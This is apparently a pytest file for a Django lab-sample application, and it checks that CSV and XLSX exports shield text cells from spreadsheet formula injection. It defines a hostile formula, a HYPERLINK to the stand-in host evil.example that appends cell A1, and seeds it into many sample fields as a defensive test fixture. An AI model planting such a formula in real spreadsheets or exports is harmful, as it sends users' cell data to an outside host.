"""Formulas that somebody typed and a spreadsheet program would run: no export has one."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from mlmodels.models import ModelVersion
from samples.models import SynthesisStep, WeighedMass
from samples.sheets.cells import shielded
from screening.models import FollowUp, ObservedPhase
from tests.factories import SampleFactory, UserFactory
from tests.screening.reviewing import make_candidate

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click")'
BEGINNINGS = "=+-@\t\r＝＋－＠"


@pytest.mark.parametrize("first", BEGINNINGS)
def test_each_beginning_of_a_formula_is_shielded(first: str) -> None:
    assert shielded(f"{first}1+1").startswith("'")


@pytest.fixture
def browser(db: None) -> Client:
    """Somebody who sees a sample with a formula in every text, judged and confirmed."""
    person = UserFactory.create(roles=["member", "reviewer", "microscopist"])
    sample = SampleFactory.create(
        code="F-1",
        notes=EVIL,
        place=EVIL,
        made_by=person,
        steps=[SynthesisStep(kind="annealing", temperature=900, duration=1, notes=EVIL, done_by=EVIL, atmosphere=EVIL)],
        masses=[WeighedMass(substance="Al", mass=1, lot=EVIL)],
    )
    make_candidate(sample=sample, name=f"{EVIL}.xy")
    ModelVersion.objects.filter(name="for tests").update(name=EVIL)
    follow_up = FollowUp.objects.open(sample, person)
    phase = ObservedPhase(technique="sem", structure="crystalline", name=EVIL, composition_text="Al43Si32Ru25")
    follow_up.revise(by=person, edition=follow_up.edition, phases=[phase], measurements=[])
    follow_up.sign(person, "confirmed", "spots")
    client = Client()
    client.force_login(person)
    return client


@pytest.mark.parametrize(
    "path",
    [
        *(f"/samples/export/?as=csv&table={table}" for table in ("samples", "synthesis", "masses")),
        *("/systems/Al-Ru-Si/map.csv", "/agreement/agreement.csv?version=all"),
    ],
)
def test_no_table_of_text_has_one(browser: Client, path: str) -> None:
    response = browser.get(path)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) > 1, "nothing is tested"
    cells = [cell for row in rows for cell in row]
    running = [cell for cell in cells if cell.startswith(tuple(BEGINNINGS)) and not is_number(cell)]
    assert running == []


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_workbook_has_one(browser: Client) -> None:
    response = browser.get("/samples/export/?as=xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == EVIL for cell in cells), "nothing is tested"
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
